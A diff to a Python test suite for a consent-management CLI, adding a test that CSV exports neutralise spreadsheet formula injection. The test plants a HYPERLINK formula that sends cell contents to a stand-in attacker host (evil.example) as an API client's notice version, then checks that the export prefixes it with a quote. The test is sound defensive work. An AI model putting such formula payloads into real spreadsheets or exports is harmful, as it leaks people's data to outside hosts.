@@ -67,6 +67,23 @@ def test_show_export_and_proof(home: Path, tmp_path: Path) -> None:
     assert record["pii_principal"]["identifier"] == "alice@example.org" and len(record["events"]) == 3
 
 
+def test_csv_export_never_starts_a_formula(home: Path) -> None:
+    # The notice version comes from an API client's own form: whatever it says must reach a spreadsheet as text.
+    workspace = Workspace(Settings.for_home(home))
+    version = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    form = Collection(CollectionMethod.api, "api:crm", notice_version=version)
+    with transaction(workspace.sessions) as session:
+        record_choices(session, workspace.manifest, parse_subject("mallory@example.org"),
+                       [Choice(Scope.purpose, "newsletter", Decision.given)], form)
+    workspace.engine.dispose()
+    exported = runner.invoke(app, ["consent", "export", "--format", "csv", "--identifiers", "--home", str(home)])
+    assert exported.exit_code == 0, exported.output
+    table = list(csv.DictReader(io.StringIO(exported.stdout)))
+    [mallory] = [r for r in table if r["subject"] == "email:mallory@example.org"]
+    assert mallory["notice_version"] == "'" + version
+    assert {r["subject"] for r in table} == {"email:alice@example.org", "email:mallory@example.org"}
+
+
 def test_signed_links(home: Path) -> None:
     where = ["--home", str(home), "--base-url", "https://privacy.example.com"]
     made = runner.invoke(app, ["consent", "preferences-link", "alice@example.org", "--lang", "en", *where])
